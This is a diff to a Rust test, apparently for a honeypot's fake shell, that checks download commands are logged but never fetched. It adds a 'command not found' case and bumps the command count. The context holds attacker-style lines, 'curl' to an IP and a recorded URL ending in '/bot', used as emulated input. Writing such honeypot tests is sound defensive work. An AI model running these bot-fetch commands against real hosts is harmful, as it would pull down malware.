@@ -188,6 +188,11 @@ async fn downloads_are_recorded_never_fetched() {
         run(&mut sh, "curl http://198.51.100.7/a").await,
         "curl: (7) Failed to connect to 198.51.100.7 port 80 after 0 ms: Connection refused\n"
     );
+    assert_eq!(
+        run(&mut sh, "frob").await,
+        "frob: command not found\n",
+        "Ubuntu's handler"
+    );
     let evs = events(&mut rx);
     let downloads: Vec<_> = evs
         .iter()
@@ -203,7 +208,7 @@ async fn downloads_are_recorded_never_fetched() {
         downloads[1].fields.get("url"),
         Some("http://198.51.100.7:8080/bot")
     );
-    assert_eq!(evs.iter().filter(|e| e.event_type == "command").count(), 3);
+    assert_eq!(evs.iter().filter(|e| e.event_type == "command").count(), 4);
 }
 
 #[tokio::test(start_paused = true)]
